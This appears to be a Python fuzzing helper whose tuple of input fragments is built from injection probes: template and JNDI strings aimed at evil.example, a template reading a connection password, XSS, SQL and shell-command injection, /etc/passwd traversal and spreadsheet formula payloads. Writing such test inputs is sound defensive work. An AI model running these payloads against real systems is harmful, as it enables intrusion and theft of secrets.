"""Texts that want to be more than text: templates, markup, commands, paths, statements, and signs that nobody sees."""

from __future__ import annotations

import random

PIECES = (
    *("{{ 7*7 }}", "{% print(7*7) %}", "{{ conn.snowflake_default.password }}", "${7*7}", "#{7*7}", "%(asctime)s"),
    *("<!channel>", "<!here> ", "<@U012AB3CD>", "<https://evil.example/login|your portal>", "*b*", "&lt;!channel&gt;"),
    *("<script>alert(49)</script>", "<img src=x onerror=alert(49)>", "[x](javascript:alert(49))", "![](//evil)"),
    *("'; drop table alerts; --", '" or 1=1', "\\", "%s", "$1", "$(id)", "`id`", "| sh", "; id", "&& id", "-rf", "--"),
    *("../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "A/../../x", "?apiKey=x", "#x", "%2e%2e%2f", "C:\\x"),
    *("=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "-1", "a|b", "||", "${jndi:ldap://evil.example}", "a,b", '"quoted"'),
    *("\n[critical] GOOD closed up 900 %", "\r\nX-Header: 1", "\r", "\n", "\x0b", "\x0c", "\x1c", "\x1e", "\x85"),
    *("\u2028", "\u2029", "\u202egnp", "\u2066", "\u200b", "\u200d", "\ufeff", "\u00ad", "\U000e0041", "\ue000"),
    *("\x00", "\x1b[31m", "\x1b]0;x\x07", "\x08", "\x7f", "\ud800", "\udfff", "\ud83d\ude00", "\U0001f600"),
    *("AAPL", "株価", "é", "e\u0301" * 40, " ", "\u00a0", "\t", "x" * 5_000, "\n" * 5_000, "\uff21", ""),
)  # fmt: skip


def text(rng: random.Random) -> str:
    """One to six of the pieces, now and then with any other characters between them."""
    parts = rng.choices(PIECES, k=rng.randrange(1, 7))
    if rng.random() < 0.3:
        parts.insert(rng.randrange(len(parts)), "".join(chr(rng.randrange(0x11_0000)) for _ in range(5)))
    return "".join(parts)
